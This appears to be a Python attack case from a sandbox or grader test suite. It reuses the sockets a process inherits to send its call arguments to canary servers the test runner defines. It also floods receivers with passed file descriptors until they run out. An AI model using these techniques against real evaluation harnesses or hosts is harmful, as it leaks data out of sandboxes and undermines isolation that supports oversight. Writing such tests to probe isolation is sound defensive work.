# attack: opens no socket: uses those that it was born with, to connect elsewhere and to send its descriptors along
# group: f
# targets: text tensor trainer
# ends: wrong error bad_frame unsolicited timeout crashed
# control: none: a grader of one process hands no sockets on

import array
import contextlib
import os
import socket

MOST = 256
SENT = 200
"""Descriptors sent with one message; the kernel takes 253."""


def _sockets():
    """Yield a copy of each open socket."""
    for number in range(MOST):
        with contextlib.suppress(OSError):
            yield socket.socket(fileno=os.dup(number))


def _dial(opened, data):
    """Turn an open socket to our own servers; one that is connected is let go first."""
    opened.settimeout(0.3)
    for address in (("127.0.0.1", CANARY_PORT), CANARY_SOCKET):  # noqa: F821 - the runner defines it
        with contextlib.suppress(OSError, TypeError):
            opened.connect(address)
            opened.send(data)
        with contextlib.suppress(OSError, TypeError):
            opened.sendto(data, address)


def _burden(opened):
    """Send open files with a byte: a reader that takes them runs out of descriptors."""
    files = [os.open(os.devnull, os.O_RDONLY) for _ in range(SENT // 10)] * 10
    opened.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))])


def attack(*args, **kwargs):
    for opened in _sockets():
        with contextlib.suppress(OSError):
            _dial(opened, repr(args)[:1000].encode())
        with contextlib.suppress(OSError):
            _burden(opened)
    return {"messages": [], "text": ""}
